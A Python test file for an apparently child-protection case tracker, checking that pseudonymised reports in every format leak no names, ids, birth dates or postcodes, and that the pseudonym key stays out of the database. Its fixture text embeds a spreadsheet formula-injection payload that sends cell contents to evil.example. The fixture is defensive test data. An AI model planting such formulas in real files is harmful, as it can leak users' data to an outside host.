"""Pseudonymised reports hold nobody's identity: a small demo with identifying text in every
free-text field, each report rendered pseudonymised to HTML, PDF and (where it has one) Excel,
and every output searched, in any case, for every name, child id, date of birth and postcode
the database holds. Also: the free-text scrubber, and the pseudonym key kept out of the
database and its audit log."""

from __future__ import annotations

import datetime as dt
import functools
import io
import json
import re
import shutil
import stat
import subprocess
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

import cptrack
from cptrack.cli import main
from cptrack.demo import synthetic as demo
from cptrack.domain.models import today
from cptrack.quality.observation.seeds import seeds_dir
from cptrack.reports import DOCUMENTS, REPORTS, filename, open_report, report_class, runner
from cptrack.reports.pdf import CHROMIUM, Printer
from cptrack.reports.pseudonyms import Scrubber, load_key
from cptrack.storage import settings
from cptrack.storage.audit import REDACTED
from cptrack.storage.connection import StoreError
from cptrack.storage.store import Store
from cptrack.storage.tables import TABLES, audit_log

TITLES = {"mr", "mrs", "ms", "miss", "mx", "dr", "prof"}
SHORT_COLUMNS = {  # short text columns, given the identifying text too
    "children": ("first_language",),
    "attendance": ("role",),
    "escalations": ("stage",),
    "strategy_discussions": ("agencies",),
}
FREE_TEXT_DOCUMENTS = ("child_summary", "conference_record", "midway_review", "observation")
PERSON_COLUMNS = {  # short text columns that hold a person's name
    "attendance": ("person",),
    "agency_reports": ("author",),
    "plan_actions": ("owner",),
    "escalations": ("raised_with",),
    "visits": ("visitor",),
}


@pytest.fixture(autouse=True)
def _key(tmp_path, monkeypatch):
    """Each test's own pseudonym key file (none in the environment)."""
    monkeypatch.delenv("CPTRACK_PSEUDONYM_KEY", raising=False)
    monkeypatch.setenv("CPTRACK_PSEUDONYM_KEY_FILE", str(tmp_path / "keys" / "pseudonym.key"))


def identifying(kid: dict, other: dict, staff: str) -> str:
    """Text that names a child every way a worker might write it, and hostile to spreadsheets."""
    dob = kid["date_of_birth"] or kid["expected_date_of_delivery"]
    dob = dt.date.fromisoformat(str(dob))
    return (
        f'=HYPERLINK("http://evil.example/?"&A3,"Click") Saw {kid["given_name"].lower()} '
        f"{kid['family_name'].upper()} ({kid['id'].lower()}) born {dob:%d/%m/%Y}, {dob.isoformat()}, "
        f"{dob:%-d %B %Y}; lives {kid['address']}, {kid['postcode']} ({kid['postcode'].replace(' ', '')}). "
        f"Mum {other['given_name']}-{other['family_name']} and Mrs {staff.split()[-1]} "
        f"({kid['social_worker']}); call 07700 900123 or mum.{other['family_name'].lower()}@example.org."
    )


@pytest.fixture(scope="module")
def leaky_db(tmp_path_factory) -> str:
    """30 children; every free-text field holds identifying text; no date of birth falls on
    the day of any recorded event (a report shows those days, and cannot tell them apart)."""
    path = tmp_path_factory.mktemp("leaky") / "demo.sqlite"
    with Store.open(str(path), migrate=True) as store:
        demo.populate(store, children=30, seed=11, as_of=today())
        kids = {k["id"]: k for k in store.rows("children")}
        staff = [s["name"] for s in store.rows("staff")]
        order = sorted(kids)
        with store.engine.begin() as conn:
            event_days = set()
            for t in TABLES.values():
                for c in t.columns:
                    if isinstance(c.type, sa.Date):
                        event_days |= {d for (d,) in conn.execute(sa.select(c)) if d}
            for k in kids.values():
                if k["date_of_birth"] is None:
                    continue
                dob = k["date_of_birth"]
                while dob in event_days:
                    dob -= dt.timedelta(days=1)
                k["date_of_birth"] = dob
                conn.execute(
                    sa.update(TABLES["children"])
                    .where(TABLES["children"].c.id == k["id"])
                    .values(date_of_birth=dob)
                )
            for name, t in TABLES.items():
                texts = [
                    c.name for c in t.columns if isinstance(c.type, sa.Text) and c.name != "address"
                ]
                texts += list(SHORT_COLUMNS.get(name, ()))
                people = PERSON_COLUMNS.get(name, ())
                jsons = [c for c in ("outcomes", "ratings") if c in t.c]
                if not (texts or jsons or people) or name == "settings":
                    continue
                for n, row in enumerate(conn.execute(sa.select(t)).mappings().all()):
                    cid = row.get("child_id") or (
                        row["id"] if name == "children" else order[n % len(order)]
                    )
                    kid, other = kids[cid], kids[order[(order.index(cid) + 1) % len(order)]]
                    text = identifying(kid, other, staff[n % len(staff)])
                    short = SHORT_COLUMNS.get(name, ())
                    values = {c: text[:200] if c in short else text for c in texts}
                    values |= dict.fromkeys(
                        people, f"Mrs {other['given_name']} {other['family_name']}"
                    )
                    for c in jsons:
                        items = row[c] or []
                        values[c] = [
                            {**i, **{f: text for f in ("outcome", "evidence") if f in i}}
                            for i in items
                        ]
                    conn.execute(sa.update(t).where(t.c.id == row["id"]).values(**values))
    return str(path)


@functools.cache
def own_words() -> frozenset[str]:
    """Every word of cptrack's own (source, profiles, notebooks), casefolded: a name that is
    one of them ("Green", "Page", "Review") cannot be told from the report's own words."""
    root = Path(cptrack.__file__).parent
    files = [p for p in root.rglob("*") if p.suffix in {".py", ".toml", ".json", ".css", ".j2"}]
    files += list((root.parent / "notebooks" / "reports").glob("*.ipynb"))
    seeds = seeds_dir()
    files += list(seeds.glob("*.txt")) if seeds.is_dir() else []
    words = set()
    for f in files:
        words |= {w.casefold() for w in re.findall(r"[^\W\d_]+", f.read_text(errors="ignore"))}
    return frozenset(words)


def secrets_of(db: str) -> dict[str, list[str]]:
    """What no pseudonymised output may hold: names (whole, and each word that is not one of
    cptrack's own), child ids, dates of birth (ISO and UK formats) and postcodes."""
    with Store.open(db) as store:
        kids = store.rows("children")
        staff = [s["name"] for s in store.rows("staff")]
    full = [f"{k['given_name']} {k['family_name']}" for k in kids] + staff
    full += [k["social_worker"] for k in kids if k["social_worker"]]
    words = {w for n in full for w in re.findall(r"[^\W\d_]+(?:'[^\W\d_]+)?", n)}
    words = {w for w in words if len(w) > 1 and w.casefold() not in TITLES | own_words()}
    dobs = []
    for k in kids:
        d = k["date_of_birth"]
        if d is not None:
            d = dt.date.fromisoformat(str(d))
            dobs += [
                d.isoformat(),
                f"{d:%d/%m/%Y}",
                f"{d:%-d/%-m/%Y}",
                f"{d:%-d %b %Y}",
                f"{d:%-d %B %Y}",
                f"{d:%d-%m-%Y}",
            ]
    postcodes = [k["postcode"] for k in kids if k["postcode"]]
    postcodes += [p.replace(" ", "") for p in postcodes]
    return {
        "names": sorted(set(full) | words),
        "child ids": [k["id"] for k in kids],
        "dates of birth": sorted(set(dobs)),
        "postcodes": sorted(set(postcodes)),
    }


def leaks(text: str, secrets: dict[str, list[str]]) -> list[str]:
    found = []
    for kind, values in secrets.items():
        for v in values:
            if re.search(rf"(?<![\w/-]){re.escape(v)}(?![\w/-])", text, re.I):
                found.append(f"{kind}: {v}")
    return found


def visible(page: str) -> str:
    """An HTML page without its embedded images' data (base64 could spell anything)."""
    return re.sub(r'src="data:[^"]*"', 'src=""', page)


def xlsx_text(data: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [
        book.properties.title or "",
        book.properties.subject or "",
        book.properties.creator or "",
    ]
    for ws in book:
        cells.append(ws.title)
        for row in ws.iter_rows(values_only=True):
            cells += [
                v.strftime("%Y-%m-%d") if isinstance(v, dt.datetime) else str(v)
                for v in row
                if v is not None
            ]
    return "\n".join(cells)


def docx_text(data: bytes) -> str:
    """Everything a Word document holds as text: its properties, every page header and footer,
    the body's paragraphs and every table cell, and image descriptions."""
    import docx

    doc = docx.Document(io.BytesIO(data))
    p = doc.core_properties
    parts = [
        p.title or "",
        p.subject or "",
        p.author or "",
        p.keywords or "",
        p.comments or "",
        p.last_modified_by or "",
        p.category or "",
    ]
    for section in doc.sections:
        for part in (section.header, section.footer, section.first_page_header):
            parts += [para.text for para in part.paragraphs]
    parts += [para.text for para in doc.paragraphs]
    for table in doc.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    parts += re.findall(r'descr="([^"]*)"', doc.element.xml)
    return "\n".join(parts)


def test_the_search_finds_what_an_ordinary_report_holds(leaky_db):
    """Not pseudonymised, the same search finds names, ids, dates of birth and postcodes."""
    secrets = secrets_of(leaky_db)
    kinds = set()
    for name in ("child_summary", "chair_caseload", "conference_record"):
        kinds |= {
            f.split(":")[0]
            for f in leaks(visible(open_report(name, db=leaky_db).document()), secrets)
        }
    assert {"names", "child ids", "dates of birth", "postcodes"} == kinds


@pytest.mark.parametrize("free_text", [False, True], ids=["free text left out", "scrubbed"])
def test_no_report_page_names_anyone(leaky_db, free_text):
    """Every report's HTML as a notebook shows it, pseudonymised: no hit."""
    secrets = secrets_of(leaky_db)
    for name in REPORTS:
        report = open_report(name, db=leaky_db, pseudonymise=True, include_free_text=free_text)
        page = visible(report.document())
        assert [] == leaks(page, secrets), name
        if free_text and name in ("conference_record", "child_summary"):
            counts = report.ctx.scrubber.counts
            assert counts["names"] > 0 and counts["postcodes"] > 0 and counts["dates"] > 0


@pytest.mark.slow
def test_no_report_file_names_anyone(leaky_db, tmp_path):
    """Every report rendered pseudonymised with its free text (scrubbed) to HTML and PDF (the
    text pdftotext reads, and the PDF's metadata), Excel where it has one and Word where it is
    a document for a file (its text, headers, footers and properties): no hit."""
    if not Path(CHROMIUM).exists() or not shutil.which("pdftotext"):
        from tests.conftest import unavailable

        unavailable("reports need /usr/bin/chromium and poppler-utils (make system-packages)")
    assert {"html", "pdf", "xlsx", "docx"} == set(runner.FORMATS), "a new format: search it too"
    secrets = secrets_of(leaky_db)
    params = {"db": leaky_db, "pseudonymise": True, "include_free_text": True}
    found = {}
    with Printer() as printer:
        for name in REPORTS:
            page = runner.to_html(runner.execute(name, params))
            pdf = tmp_path / f"{name}.pdf"
            pdf.write_bytes(printer.pdf(page))
            text = subprocess.run(
                ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
            ).stdout
            info = subprocess.run(
                ["pdfinfo", str(pdf)], capture_output=True, text=True, check=True
            ).stdout
            found[f"{name}.html"] = leaks(visible(page), secrets)
            found[f"{name}.pdf"] = leaks(text + info, secrets)
            if report_class(name).excel:
                found[f"{name}.xlsx"] = leaks(
                    xlsx_text(runner.render_bytes(name, "xlsx", params)), secrets
                )
            if name in DOCUMENTS:
                found[f"{name}.docx"] = leaks(
                    docx_text(runner.render_bytes(name, "docx", params)), secrets
                )
            if name in FREE_TEXT_DOCUMENTS:
                assert "[name removed]" in text, f"{name} keeps its free text, scrubbed"
    assert {k: [] for k in found} == found


def test_the_command_says_what_it_removed(leaky_db, tmp_path, capsys):
    """`cptrack report --pseudonymise` prints what it left out, or what it scrubbed."""
    page = tmp_path / "caseload.html"
    assert 0 == main(
        [
            "report",
            "chair_caseload",
            "--db",
            leaky_db,
            "--to",
            "html",
            "--out",
            str(page),
            "--pseudonymise",
        ]
    )
    said = capsys.readouterr()
    assert "free text left out" in said.out and "--include-free-text" in said.out
    assert "made a new pseudonym key" in said.err, "said here, not lost in the report's kernel"
    with Store.open(leaky_db) as store:  # a child whose file holds case notes
        child = store.rows("case_tracking")[0]["child_id"]
    summary = tmp_path / "child.html"
    assert 0 == main(
        [
            "report",
            "child_summary",
            "--db",
            leaky_db,
            "--child",
            child,
            "--to",
            "html",
            "--out",
            str(summary),
            "--pseudonymise",
            "--include-free-text",
        ]
    )
    line = capsys.readouterr().out.splitlines()[-1]
    assert re.fullmatch(r"Pseudonymised; removed from the text: .*\d+ names?.*", line), line
    out = tmp_path / "caseload.xlsx"
    with pytest.raises(SystemExit, match="--include-free-text goes with --pseudonymise"):
        main(
            [
                "report",
                "chair_caseload",
                "--db",
                leaky_db,
                "--to",
                "xlsx",
                "--out",
                str(out),
                "--include-free-text",
            ]
        )


def test_words_cptrack_writes_name_staff_by_pseudonym(leaky_db):
    """A drift finding that names two chairs reads, pseudonymised, with their pseudonyms."""
    report = open_report("chair_caseload", db=leaky_db, pseudonymise=True)
    ctx = report.ctx
    chairs = ctx.staff[ctx.staff["role"] == "chair"].head(2)
    a, b = chairs["name"]
    pa, pb = (ctx.staff_name(i) for i in chairs["id"])
    text = f"Chair changed at this conference ({a} to {b})"
    assert f"Chair changed at this conference ({pa} to {pb})" == ctx.engine_text(text)
    assert text == open_report("chair_caseload", db=leaky_db).ctx.engine_text(text)


def test_file_names_carry_the_pseudonym(leaky_db):
    """A pseudonymised download's file name holds the child's pseudonym, not their id."""
    kid = "C000003"
    plain = filename("child_summary", "pdf", child=kid, as_of="2026-11-23")
    shared = filename(
        "child_summary", "pdf", child=kid, as_of="2026-11-23", db=leaky_db, pseudonymise=True
    )
    assert "child_summary-C000003-2026-11-23.pdf" == plain
    assert re.fullmatch(r"child_summary-Child_[A-Z2-7]{6}-2026-11-23\.pdf", shared), shared


def test_scrubber_takes_out_names_in_any_case_and_identifying_patterns():
    """The issue's case note, scrubbed: names in any case and hyphenated, ids, DOB, postcode."""
    scrub = Scrubber(
        ["Albert Bailey", "Sarah-Jane Smith", "Jo Li", "Mary O'Neill"],
        {"C000006": "Child ZWAG42"},
        ["12 Acacia Avenue"],
    )
    note = (
        "Saw albert bailey… ALBERT BAILEY said mum Sarah-Jane and her partner Jo Li… Mrs "
        "O’Neill (c000006)… DOB 30/11/2010, 2010-11-30, lives 12 acacia avenue, N3 6LE; "
        "07700 900123, +44 20 7946 0000, jo.li@example.org. Well-being good."
    )
    assert (
        "Saw [name removed]… [name removed] said mum [name removed] and her partner [name "
        "removed]… Mrs [name removed] (Child ZWAG42)… DOB [date removed], [date removed], lives "
        "[address removed], [postcode removed]; [phone number removed], [phone number removed], "
        "[email removed]. Well-being good."
    ) == scrub(note)
    assert (
        "5 names, 1 child id, 1 address, 1 email, 2 dates, 2 phone numbers, 1 postcode"
        == scrub.summary()
    )


def test_the_key_is_made_in_a_private_file_not_the_database(tmp_path, monkeypatch):
    """No key anywhere: one is made in the key file (mode 600) with a message; the database
    and its audit log never hold it; a key file others can read is refused."""
    db = tmp_path / "db.sqlite"
    said = []
    with Store.open(str(db), migrate=True) as store:
        key = load_key(store, say=said.append)
        assert key == load_key(store, say=said.append)
        assert None is store.get("settings", "pseudonym_key")
        assert [] == [a for a in store.audit() if key.decode() in json.dumps(a, default=str)]
    path = tmp_path / "keys" / "pseudonym.key"
    assert 0o600 == stat.S_IMODE(path.stat().st_mode)
    assert 1 == len(said) and str(path) in said[0]
    path.chmod(0o644)
    with pytest.raises(StoreError, match="chmod 600"):
        load_key(None)
    monkeypatch.setenv("CPTRACK_PSEUDONYM_KEY", "from the environment")
    assert b"from the environment" == load_key(None)


def test_a_key_kept_in_the_database_moves_out_and_leaves_no_trace(tmp_path, db_url):
    """An older database's key: moved to the key file (same pseudonyms), deleted from the
    settings, its value blanked in the audit rows; the move itself audited without it."""
    db = db_url
    with Store.open(db, migrate=True) as store:
        demo.populate(store, children=3, seed=2, as_of=today())
        with store.transaction(note="pseudonym key for shared reports") as tx:
            tx.add("settings", {"id": "pseudonym_key", "value": "04a29c" * 8})
    report = open_report("chair_caseload", db=db, pseudonymise=True)
    assert "04a29c" * 8 == report.ctx._key.decode()
    with report.ctx.store.engine.connect() as conn:
        rows = conn.execute(
            sa.select(audit_log).where(
                audit_log.c.table_name == "settings", audit_log.c.record_id == "pseudonym_key"
            )
        ).all()
    report.ctx.store.close()
    assert ["insert", "delete"] == [r.action for r in rows]
    assert all("04a29c" not in json.dumps([r.before, r.after]) for r in rows)
    assert REDACTED == rows[0].after["value"]
    with Store.open(db) as store:
        assert None is store.get("settings", "pseudonym_key")
    assert "04a29c" * 8 == (tmp_path / "keys" / "pseudonym.key").read_text().strip()


def test_a_key_kept_in_the_database_is_deleted_when_another_is_in_use(tmp_path, monkeypatch):
    """With CPTRACK_PSEUDONYM_KEY set, an old key in the database is deleted, with a word."""
    monkeypatch.setenv("CPTRACK_PSEUDONYM_KEY", "the key in use")
    said = []
    with Store.open(str(tmp_path / "db.sqlite"), migrate=True) as store:
        with store.transaction() as tx:
            tx.add("settings", {"id": "pseudonym_key", "value": "old key"})
        assert b"the key in use" == load_key(store, say=said.append)
        assert None is store.get("settings", "pseudonym_key")
    assert 1 == len(said) and "deleted an old pseudonym key" in said[0]


def test_secret_settings_are_audited_as_changed_never_by_value(store):
    """A secret setting is refused by the settings store, and redacted by the audit."""
    with pytest.raises(ValueError, match="CPTRACK_PSEUDONYM_KEY"):
        settings.put(store, "pseudonym_key", "abc")
    with store.transaction() as tx:
        tx.add("settings", {"id": "pseudonym_key", "value": "s3cret-value"})
    audit = store.audit("settings", "pseudonym_key")
    assert [REDACTED] == [a["after"]["value"] for a in audit]
